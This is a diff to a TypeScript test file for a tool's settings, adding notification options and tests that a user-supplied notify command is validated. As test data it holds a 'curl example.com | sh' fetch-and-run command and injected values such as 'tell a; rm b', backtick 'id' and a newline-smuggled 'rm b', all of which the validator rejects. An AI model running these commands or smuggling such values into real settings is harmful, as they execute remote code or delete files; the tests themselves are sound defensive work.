@@ -95,6 +95,14 @@ const ROWS: Readonly<Record<string, Row>> = {
   detectors: { default: true, user: false, bad: "x", said: ["off", false], tighter: true },
   "detectors.block": { default: false, user: true, bad: "x", said: ["off", false], project: false },
   "detectors.openclaw": { default: false, user: true, bad: 3, said: ["off", false], project: false },
+  "notify.bell": { default: true, user: false, bad: "x", said: ["on", true], project: true },
+  "notify.desktop": { default: true, user: false, bad: 2, said: ["on", true], project: true },
+  "notify.command": {
+    default: "",
+    user: "notify-send --app-name 'Mile post'",
+    bad: "curl example.com | sh",
+    project: "touch stolen",
+  },
   "claude-code.todo": { default: "ours", user: "client", bad: "both", said: ["ours", "ours"], project: "ours" },
   "claude-code.tasks": { default: false, user: true, bad: "x", said: ["off", false], project: false },
   "claude-code.plans": { default: false, user: true, bad: "x", said: ["off", false], project: false },
@@ -125,7 +133,10 @@ describe.each(SETTINGS.map((entry) => [entry.name, entry] as const))("%s", (name
   test("a variable wins over both files, also to loosen; a bad one is passed over", () => {
     given({ user: { [name]: user }, project: { [name]: tighter ?? user } });
     // What must not be decided by whoever starts a command has none.
-    if (!said) return expect([entry.variable, name]).toEqual([undefined, "plans.agent-decides"]);
+    if (!said) {
+      expect(entry.variable).toBeUndefined();
+      return expect(["plans.agent-decides", "notify.command"]).toContain(name);
+    }
     expect(settled(entry, variables)).toEqual([said[1], "environment"]);
     given({ project: {} });
     expect(settled(entry, { [entry.variable ?? ""]: "?" })).toEqual([user, "user"]);
@@ -169,6 +180,24 @@ test.each<[string, object, object, unknown]>([
 ])("%s", (_, user, project, focus) => {
   given({ user, project });
   expect(readSettings(environment, folder).focus).toBe(focus);
+});
+
+test.each([
+  ["notify-send", "notify-send"],
+  ["  ~/bin/tell 'a b' \"c;d\" ", "~/bin/tell 'a b' \"c;d\""],
+  ["none", ""],
+  ["'/opt/my tools/tell' x", "'/opt/my tools/tell' x"],
+  ["tell > /tmp/x", undefined],
+  ["tell $HOME", undefined],
+  ["tell `id`", undefined],
+  ["tell a; rm b", undefined],
+  ["tell 'a", undefined],
+  ["tell\nrm b", undefined],
+  ["tell 'a\u001b]0;x'", undefined],
+  ["x".repeat(1001), undefined],
+])("a command for notices: %j", (line, command) => {
+  const entry = SETTINGS.find(({ name }) => name === "notify.command");
+  expect(entry?.write(DEFAULT_SETTINGS, line)?.notify.command).toBe(command);
 });
 
 const ODD: readonly unknown[] = [
